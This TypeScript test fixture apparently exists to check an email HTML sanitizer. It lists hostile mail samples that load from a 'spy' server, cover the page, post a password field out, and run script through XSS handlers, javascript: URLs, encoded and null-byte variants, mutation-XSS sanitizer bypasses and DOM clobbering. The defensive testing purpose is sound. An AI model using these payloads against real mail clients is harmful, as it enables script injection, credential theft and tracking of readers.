/**
 * HTML of mails that tries to load, run, send or cover something. `spy` is a server that must never get a request. A
 * running script would set `ran` on a window, and send a request to the spy.
 */
export const hostileMails = (spy: string): Record<string, string> => {
  const run = `window.top.ran=1;window.ran=1;new Image().src='${spy}/ran'`
  return {
    pictures: `<img src="${spy}/a.png" srcset="${spy}/b.png 2x"><picture><source srcset="${spy}/c.png"><img src="${spy}/d.png"></picture><input type=image src="${spy}/e.png"><video poster="${spy}/f.png" src="${spy}/g.mp4" autoplay></video><audio src="${spy}/h.mp3" autoplay></audio><table background="${spy}/i.png"><tr><td background="${spy}/j.png">x</td></tr></table><body background="${spy}/k.png">`,
    styles: `<style>@import "${spy}/import.css"; body{background:url(${spy}/body.png)} @font-face{font-family:x;src:url(${spy}/font.woff)} *{font-family:x;cursor:url(${spy}/cursor.cur),auto} a[href^="http"]{background:url(${spy}/leak)}</style><div style="background:url(${spy}/inline.png);list-style-image:url('${spy}/list.png')">x</div><link rel=stylesheet href="${spy}/link.css"><link rel=preload as=image href="${spy}/preload.png"><link rel=icon href="${spy}/icon.png">`,
    covers: `<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div><div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">covered</div><style>html,body{position:fixed!important}</style>`,
    leaves: `<meta http-equiv=refresh content="0;url=${spy}/refresh"><base href="${spy}/base/"><a href="relative">r</a><iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${spy}/frameset"></frameset><object data="${spy}/object"></object><embed src="${spy}/embed"><portal src="${spy}/portal"></portal>`,
    forms: `<form action="${spy}/form" method=post><input name=password autofocus onfocus="${run}"><button formaction="${spy}/button">Log in</button></form><isindex action="${spy}/isindex" prompt=x>`,
    scripts: `<script>${run}</script><script src="${spy}/script.js"></script><img src=x onerror="${run}"><body onload="${run}"><svg onload="${run}"><details open ontoggle="${run}">x</details><marquee onstart="${run}">x</marquee><a href="javascript:${run}">click</a><a href="&#106;avascript:${run}">click</a><a href="data:text/html,<script>${run}</script>">click</a><a href="vbscript:x">click</a>`,
    drawings: `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="${spy}/svg.png"/><use href="${spy}/use.svg#a"/><foreignObject><iframe src="${spy}/foreign"></iframe></foreignObject><animate attributeName=href values="javascript:${run}"/><style>@import url(${spy}/svg.css)</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${spy}/datasvg.png'/></svg>"><math href="javascript:${run}"><maction actiontype="statusline#${spy}">x</maction></math>`,
    'changes of form 1': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    'changes of form 2': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    'changes of form 3': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    'changes of form 4': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    'changes of form 5': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
    'changes of form 6': `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=1 onerror=${run}>">x</a>`,
    'changes of form 7': `<title><a href="</title><img src=x onerror=${run}>">x</a></title><textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    'changes of form 8': `${'<div>'.repeat(600)}<table><svg><mtext><style><img src=x onerror=${run}>${'</div>'.repeat(600)}`,
    names: `<img name=getElementById><form id=documentElement><input name=attributes></form><a id=head href=x>x</a><img name=body><div id=createElement>x</div>`,
    bytes: `<img src="${spy}/nul\0.png"><scr\0ipt>${run}</scr\0ipt><img/src="x"/onerror="${run}"><a href="java\tscript:${run}">x</a><a href=" \u0001javascript:${run}">x</a>`,
  }
}
